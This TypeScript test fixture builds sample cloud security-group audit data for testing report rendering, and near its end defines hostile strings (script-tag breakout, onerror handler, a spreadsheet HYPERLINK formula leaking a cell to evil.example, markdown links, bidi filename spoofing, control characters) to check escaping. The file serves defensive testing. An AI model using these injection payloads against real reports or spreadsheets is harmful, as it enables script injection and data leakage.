import type { Audit } from '../../../shared/compliance/audit.js';
import type {
  AuditHead,
  CheckResult,
  Finding,
  FindingResource,
} from '../../../shared/contracts/findings.js';

/** Audits as the command makes them, for the tests of the reports. */

const takenAt = '2026-11-24T09:00:00Z';

const checkOf = (id: string, title: string, rest: Partial<CheckResult>): CheckResult => ({
  id,
  title,
  severity: 'high',
  looksAt: 'networkInterface',
  why: `${title}: whoever reaches it can try to get in`,
  remedy: 'Remove the rule, or name the addresses that need it',
  standards: [],
  parameters: {},
  status: 'pass',
  resources: { pass: 97, fail: 0, unknown: 0, notApplicable: 0 },
  findings: 0,
  ...rest,
});

const cis = (control: string) => ({ standard: 'cis-alibaba-2.0', control });
const config = (control: string) => ({ standard: 'alibaba-cloud-config', control });

const checks: readonly CheckResult[] = [
  checkOf('sg-ssh-open', 'SSH open to the Internet', {
    standards: [cis('4.3'), cis('3.2')],
    parameters: { ports: ['tcp/22'], minShare: 0.00390625 },
    status: 'fail',
    resources: { pass: 78, fail: 19, unknown: 0, notApplicable: 0 },
    findings: 2,
  }),
  checkOf('sg-rdp-open', 'RDP open to the Internet', {
    standards: [cis('4.4'), cis('3.2')],
    status: 'fail',
    resources: { pass: 94, fail: 3, unknown: 0, notApplicable: 0 },
    findings: 1,
  }),
  checkOf('sg-redis', 'Redis open to the Internet', {
    status: 'unknown',
    resources: { pass: 95, fail: 0, unknown: 2, notApplicable: 0 },
    findings: 1,
  }),
  checkOf('sg-risky-ports', 'Risky ports open to the Internet', {
    standards: [config('sg-risky-ports-check')],
    status: 'fail',
    resources: { pass: 78, fail: 19, unknown: 0, notApplicable: 0 },
  }),
  checkOf('sg-public-access', 'Everything open to the Internet', {
    standards: [config('sg-public-access-check')],
  }),
  checkOf('sg-shadowed-rule', 'Rule can never decide', {
    severity: 'medium',
    looksAt: 'securityGroup',
    standards: [cis('3.5')],
    status: 'fail',
    resources: { pass: 22, fail: 2, unknown: 0, notApplicable: 0 },
    findings: 1,
  }),
  checkOf('sg-description', 'Rule without a description', {
    severity: 'low',
    looksAt: 'securityGroup',
    standards: [config('ecs-security-group-description-check')],
    status: 'fail',
    resources: { pass: 20, fail: 4, unknown: 0, notApplicable: 0 },
    findings: 1,
  }),
  checkOf('ecs-classic', 'Classic network', {
    looksAt: 'instance',
    standards: [cis('3.1')],
    status: 'notApplicable',
    reason: 'no instance of the region is in the classic network',
    resources: { pass: 0, fail: 0, unknown: 0, notApplicable: 85 },
  }),
  checkOf('sg-change-alert', 'Alert on changes of security groups', {
    severity: 'medium',
    looksAt: 'securityGroup',
    standards: [cis('2.22')],
    status: 'notJudged',
    reason: 'alert rules of Log Service are in no snapshot',
    resources: { pass: 0, fail: 0, unknown: 0, notApplicable: 0 },
  }),
];

const instances = (count: number) =>
  Array.from({ length: Math.min(20, count) }, (_, index) => `i-bp1sample${10 + index}`);
const interfaces = (count: number) =>
  Array.from({ length: Math.min(20, count) }, (_, index) => `eni-bp1sample${10 + index}`);

const group = (name: string, id = `sg-bp1${name.replaceAll('-', '')}`): FindingResource => ({
  type: 'securityGroup',
  id,
  name,
  vpcId: 'vpc-bp1shop',
});

/** A finding with the interesting part given. */
export function findingOf(number: number, rest: Partial<Finding> = {}): Finding {
  return {
    id: `fnd-${number.toString(16).padStart(16, '0')}`,
    checkId: 'sg-ssh-open',
    severity: 'high',
    status: 'fail',
    title: 'SSH open to the Internet by shop-web',
    resource: group('shop-web'),
    explanation:
      'tcp 22 in from the Internet is allowed because of rule sgr-bp1ssh of shop-web: Accept at priority 1.',
    decidedBy: [
      {
        kind: 'rule',
        securityGroupId: 'sg-bp1shopweb',
        securityGroupName: 'shop-web',
        securityGroupRuleId: 'sgr-bp1ssh',
        text: 'Accept tcp 22/22 from 0.0.0.0/0, priority 1',
      },
    ],
    exposure: {
      direction: 'ingress',
      protocol: 'tcp',
      ports: ['22/22'],
      peers: ['0.0.0.0/0'],
      peerCount: 1,
      share: 1,
    },
    interfaces: { count: 16, ids: interfaces(16) },
    instances: { count: 14, ids: instances(14) },
    remedy: {
      text: 'Let only the addresses of the administrators reach port 22.',
      changes: [
        {
          operation: 'RevokeSecurityGroup',
          securityGroupId: 'sg-bp1shopweb',
          securityGroupRuleIds: ['sgr-bp1ssh'],
        },
        {
          operation: 'AuthorizeSecurityGroup',
          securityGroupId: 'sg-bp1shopweb',
          permissions: [
            {
              IpProtocol: 'TCP',
              PortRange: '22/22',
              SourceCidrIp: '198.51.100.0/24',
              Policy: 'Accept',
              Priority: '1',
            },
          ],
        },
      ],
    },
    drift: 'unchanged',
    since: '2026-10-02T09:00:00Z',
    ...rest,
  };
}

const findings: readonly Finding[] = [
  findingOf(1, { alsoFails: ['sg-risky-ports'], groups: { web: 12, shop: 4 } }),
  findingOf(2, {
    checkId: 'sg-rdp-open',
    title: 'RDP open to the Internet by legacy-default',
    resource: group('legacy-default'),
    explanation:
      'ingress tcp 3389 from internet is allowed by two rules that together cover all of it: 0.0.0.0/1 and 128.0.0.0/1.',
    decidedBy: ['0.0.0.0/1', '128.0.0.0/1'].map((cidr, index) => ({
      kind: 'rule' as const,
      securityGroupId: 'sg-bp1legacydefault',
      securityGroupName: 'legacy-default',
      securityGroupRuleId: `sgr-bp1rdp${index}`,
      text: `Accept tcp 3389/3389 from ${cidr}, priority 10`,
    })),
    exposure: {
      direction: 'ingress',
      protocol: 'tcp',
      ports: ['3389/3389'],
      peers: ['0.0.0.0/1', '128.0.0.0/1'],
      peerCount: 2,
      share: 1,
    },
    interfaces: { count: 3, ids: interfaces(3) },
    instances: { count: 3, ids: instances(3) },
    drift: 'new',
    since: takenAt,
    groups: { windows: 3 },
    remedy: {
      text: 'Move the three instances to windows-jump, which lets in the office alone.',
      changes: [],
      note: 'The dry run opens nothing to the Internet.',
      request: {
        regionId: 'cn-hangzhou',
        targets: { instanceIds: instances(3) },
        interfaces: 'primary',
        invalidTargets: 'refuse',
        join: [{ name: 'windows-jump' }],
        leave: ['sg-bp1legacydefault'],
        checks: [
          { direction: 'ingress', protocol: 'tcp', port: 3389, peer: 'internet', expect: 'deny' },
        ],
        onFailure: 'rollBackTarget',
        rollout: {},
        reason: 'fnd-0000000000000002',
      },
    },
  }),
  findingOf(3, {
    title: 'SSH open to the Internet by bastion',
    resource: group('bastion'),
    interfaces: { count: 1, ids: interfaces(1) },
    instances: { count: 1, ids: instances(1) },
    exception: {
      owner: 'platform team',
      reason: 'The bastion is meant to be reached; keys only, watched.',
      expires: '2027-01-31',
    },
    groups: { platform: 1 },
  }),
  findingOf(4, {
    checkId: 'sg-redis',
    status: 'unknown',
    title: 'Redis: rules of cache could not be read whole',
    resource: group('cache'),
    explanation:
      'The prefix list pl-bp1office was not read, so that it is not known whether tcp 6379 is open to internet.',
    decidedBy: [],
    exposure: undefined,
    remedy: undefined,
    interfaces: { count: 2, ids: interfaces(2) },
    instances: { count: 2, ids: instances(2) },
    drift: 'changed',
    groups: { shop: 2 },
  }),
  findingOf(5, {
    checkId: 'sg-shadowed-rule',
    severity: 'medium',
    title: 'Two rules of shop-app can never decide',
    resource: group('shop-app'),
    explanation: 'sgr-bp1late has a weaker priority than sgr-bp1wide, which covers all of it.',
    exposure: undefined,
    interfaces: { count: 0, ids: [] },
    instances: { count: 0, ids: [] },
    groups: {},
    remedy: {
      text: 'Remove the rules that decide nothing.',
      changes: [
        {
          operation: 'RevokeSecurityGroup',
          securityGroupId: 'sg-bp1shopapp',
          securityGroupRuleIds: ['sgr-bp1late'],
        },
      ],
      changeId: 'chg-0123456789abcdef01234567',
    },
  }),
  findingOf(6, {
    checkId: 'sg-description',
    severity: 'low',
    title: '4 rules of legacy-default have no description',
    resource: group('legacy-default'),
    explanation: 'Nobody can tell why they are there.',
    exposure: undefined,
    remedy: undefined,
    interfaces: { count: 9, ids: interfaces(9) },
    instances: { count: 9, ids: instances(9) },
    groups: { '': 6, windows: 3 },
  }),
];

const withoutUndefined = (finding: Finding): Finding => JSON.parse(JSON.stringify(finding));

/** The head of the sample; findings are counted for it by hand. */
export function headOf(rest: Partial<AuditHead> = {}): AuditHead {
  const ports = ['SSH', 'RDP', 'MySQL', 'Redis', 'HTTP', 'HTTPS', 'Elasticsearch', 'Docker'];
  const numbers = [22, 3389, 3306, 6379, 80, 443, 9200, 2375];
  const row = (name: string, reached: readonly number[]) => ({
    securityGroupId: `sg-bp1${name.replaceAll('-', '')}`,
    name,
    interfaces: [...reached],
  });
  return {
    v: 1,
    runId: '20261124T090000Z-0a1b2c3d',
    accountId: '1234567890123456',
    regionId: 'cn-hangzhou',
    takenAt,
    mode: 'effective',
    minShare: 1 / 256,
    previous: { runId: '20261123T090000Z-99887766', takenAt: '2026-11-23T09:00:00Z' },
    groupBy: 'tag:team',
    counts: {
      instances: 85,
      networkInterfaces: 97,
      securityGroups: 24,
      rules: 1134,
      open: { high: 2, medium: 1, low: 1 },
      unknown: 1,
      excepted: 1,
      new: 1,
      changed: 1,
      unchanged: 4,
      fixed: 1,
    },
    checks: [...checks],
    fixed: [
      {
        id: 'fnd-00000000000000ff',
        checkId: 'sg-ssh-open',
        severity: 'high',
        title: 'SSH open to the Internet by batch',
        resource: group('batch'),
        since: '2026-09-01T09:00:00Z',
      },
    ],
    regionDrift: {
      since: '2026-11-23T09:00:00Z',
      rulesAdded: [
        {
          kind: 'rule',
          securityGroupId: 'sg-bp1legacydefault',
          securityGroupName: 'legacy-default',
          securityGroupRuleId: 'sgr-bp1rdp1',
          text: 'Accept tcp 3389/3389 from 128.0.0.0/1, priority 10',
        },
      ],
      rulesRemoved: [
        {
          kind: 'rule',
          securityGroupId: 'sg-bp1batch',
          securityGroupName: 'batch',
          securityGroupRuleId: 'sgr-bp1gone',
          text: 'Accept tcp 22/22 from 0.0.0.0/0, priority 1',
        },
      ],
      membershipsAdded: [{ interfaceId: 'eni-bp1sample10', securityGroupId: 'sg-bp1shopweb' }],
      membershipsRemoved: [],
      counts: { rulesAdded: 1, rulesRemoved: 1, membershipsAdded: 230, membershipsRemoved: 0 },
    },
    heatMap: {
      columns: ports.map((label, index) => ({
        port: `tcp ${numbers[index]}`,
        label: `tcp ${numbers[index]} ${label}`,
      })),
      rows: [
        row('shop-web', [16, 0, 0, 0, 16, 16, 0, 0]),
        row('legacy-default', [9, 3, 9, 0, 9, 9, 2, 1]),
        row('bastion', [1, 0, 0, 0, 0, 0, 0, 0]),
        row('shop-edge', [0, 0, 0, 0, 41, 41, 0, 0]),
      ],
      moreGroups: 2,
    },
    trend: [9, 8, 8, 6, 7, 5, 4, 3, 2].map((high, index) => ({
      takenAt: `2026-11-${16 + index}T09:00:00Z`,
      high,
      medium: 3 - Math.floor(index / 4),
      low: 2 + (index % 3),
      unknown: 1,
    })),
    pending: { 'sg-bp1empty': '2026-11-20T09:00:00Z' },
    ...rest,
  };
}

/** An audit of these findings. Each pass makes them anew. */
export function auditOf(head: AuditHead, list: readonly Finding[]): Audit {
  return {
    head,
    *findings() {
      for (const finding of list) yield withoutUndefined(finding);
    },
  };
}

/** The usual case: each severity, an unknown, an exception, drift, tags, a fixed one. */
export const sampleAudit = (rest: Partial<AuditHead> = {}): Audit =>
  auditOf(headOf(rest), findings);

/** Nothing was found, nothing is open, and there is no earlier run. */
export function emptyAudit(): Audit {
  const { previous: _previous, regionDrift: _drift, groupBy: _groupBy, ...head } = headOf();
  const none = { high: 0, medium: 0, low: 0 };
  const counts = { ...head.counts, open: none, unknown: 0, excepted: 0 };
  return auditOf(
    {
      ...head,
      counts: { ...counts, new: 0, changed: 0, unchanged: 0, fixed: 0 },
      checks: [],
      fixed: [],
      heatMap: { columns: [], rows: [], moreGroups: 0 },
      trend: [{ takenAt, ...none, unknown: 0 }],
      pending: {},
    },
    [],
  );
}

/** What a name in the cloud may hold to harm whoever shows it. */
export const hostileTexts = {
  script: `</script></style><script>document.title='owned'</script>`,
  handler: `"><img src=x onerror="document.title='owned'"> ' onmouseover='x`,
  formula: `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  lines: 'first\r\nsecond\u2028third\u0000\u001b[2Jfourth\u009b31m',
  turned: 'gpj.\u202eexe\u2066\u200f',
  markdown:
    '[click](https://evil.example) ![x](https://evil.example/x.png) `a` | b @admins #12 **x**',
  xml: ']]>&lt;<?pi?><!-- --\u000b\ufffe\ud800',
  braces: '{0} {{1}} {x}',
  long: `long ${'x'.repeat(10_000)}`,
} as const;

/** Every hostile text as name, explanation, rule, tag, owner and id of a policy. */
export function hostileAudit(): Audit {
  const texts = Object.values(hostileTexts);
  const list = texts.map((text, index) =>
    findingOf(100 + index, {
      title: text,
      explanation: text,
      alsoFails: [text],
      resource: { type: 'policy', id: text, name: text, vpcId: text },
      decidedBy: [
        {
          kind: 'rule',
          securityGroupId: text,
          securityGroupName: text,
          securityGroupRuleId: text,
          text,
        },
      ],
      exposure: { direction: 'egress', protocol: text, ports: [text], peers: [text], peerCount: 9 },
      interfaces: { count: 1, ids: [text] },
      instances: { count: 1, ids: [text] },
      remedy: {
        text,
        note: text,
        changes: [
          {
            operation: 'AuthorizeSecurityGroup',
            securityGroupId: text,
            permissions: [{ Description: text }],
          },
        ],
        request: {
          regionId: 'cn-hangzhou',
          targets: { instanceIds: ['i-bp1'] },
          interfaces: 'primary',
          invalidTargets: 'refuse',
          join: [{ name: text.slice(0, 128) }],
          checks: [],
          onFailure: 'keep',
          rollout: {},
          reason: text.slice(0, 512),
        },
      },
      groups: { [text]: 1 },
      exception: { owner: text, reason: text, expires: '2027-01-31' },
    }),
  );
  const head = headOf({
    scope: hostileTexts.script,
    standard: hostileTexts.handler,
    groupBy: `tag:${hostileTexts.handler}`,
    fixed: texts.map((text, index) => ({
      id: `fnd-${String(900 + index).padStart(16, '0')}`,
      checkId: 'sg-ssh-open',
      severity: 'low',
      title: text,
      resource: { type: 'securityGroup', id: text, name: text },
      since: text,
    })),
    checks: texts.map((text, index) => ({
      ...checkOf(`check-${index}`, text, {}),
      why: text,
      remedy: text,
      reason: text,
      standards: [{ standard: hostileTexts.handler, control: text }],
      parameters: { [text]: text },
    })),
  });
  return auditOf(
    {
      ...head,
      heatMap: {
        columns: [{ port: hostileTexts.handler, label: hostileTexts.script }],
        rows: texts.map((text) => ({ securityGroupId: text, name: text, interfaces: [3] })),
        moreGroups: 0,
      },
    },
    list,
  );
}

/** So many findings that no report may hold them all. */
export function hugeAudit(count: number): Audit {
  const base = headOf();
  const open = {
    high: Math.floor(count / 3),
    medium: Math.floor(count / 3),
    low: Math.ceil(count / 3),
  };
  return {
    head: { ...base, counts: { ...base.counts, open } },
    *findings() {
      for (let index = 0; index < count; index += 1) {
        const severity = (['high', 'medium', 'low'] as const)[Math.floor((index * 3) / count)];
        yield findingOf(index + 1, {
          severity: severity ?? 'low',
          title: `SSH open to the Internet by service-${index}`,
          resource: group(`service-${index}`),
          groups: { [`team-${index % 40}`]: 16 },
        });
      }
    },
  };
}
